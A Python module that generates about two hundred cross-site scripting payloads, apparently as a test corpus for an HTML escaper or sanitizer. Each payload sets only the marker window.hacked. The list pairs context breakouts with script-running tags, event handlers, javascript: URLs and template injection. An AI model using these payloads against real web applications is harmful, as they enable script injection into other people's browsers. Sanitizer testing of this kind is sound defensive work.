"""Two hundred texts that run a script where a page takes them for more than text, made by rule from places and deeds.

Each sets ``window.hacked``. They stand for text, attributes with either quote and none, addresses, comments, raw
elements, scripts and their strings, styles, templates, drawings, entities, broken and turned text.
"""

from __future__ import annotations

from itertools import product

_DEED = "window.hacked=1"
_OUT = (
    "",
    '">',
    "'>",
    "-->",
    "</title>",
    "</style>",
    "</script>",
    "</textarea>",
    "]]>",
    "</svg>",
    "\u202e",
    "\x00",
    "</td></table>",
)
_ELEMENTS = (
    f"<script>{_DEED}</script>",
    f"<img src=x onerror={_DEED}>",
    f"<svg onload={_DEED}>",
    f"<svg><animate onbegin={_DEED} attributeName=x dur=1s>",
    f"<details open ontoggle={_DEED}>",
    f"<iframe srcdoc='&lt;script&gt;parent.{_DEED}&lt;/script&gt;'></iframe>",
    f"<body onload={_DEED}>",
    f"<input autofocus onfocus={_DEED}>",
    f"<video><source onerror={_DEED}></video>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_DEED}>",
    f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={_DEED}>",
    f"<a href='javascript:{_DEED}'>x</a>",
    f"<form><button formaction=javascript:{_DEED}>x",
    f"<object data='data:text/html,<script>parent.{_DEED}</script>'>",
)
_ATTRIBUTES = ("onmouseover", "autofocus tabindex=0 onfocus", "onload")
_QUOTES = ('" ', "' ", " ", "`")
PAYLOADS = [
    *(out + element for out, element in product(_OUT, _ELEMENTS)),
    *(f"x{quote}{attribute}={_DEED} x={quote}" for quote, attribute in product(_QUOTES, _ATTRIBUTES)),
    *(f"{quote};{_DEED};//" for quote in ("'", '"', "`", "\\'", "\u2028")),
    f"${{{_DEED}}}",
    f"{{{{constructor.constructor('{_DEED}')()}}}}",
    f"&lt;script&gt;{_DEED}&lt;/script&gt;",
]
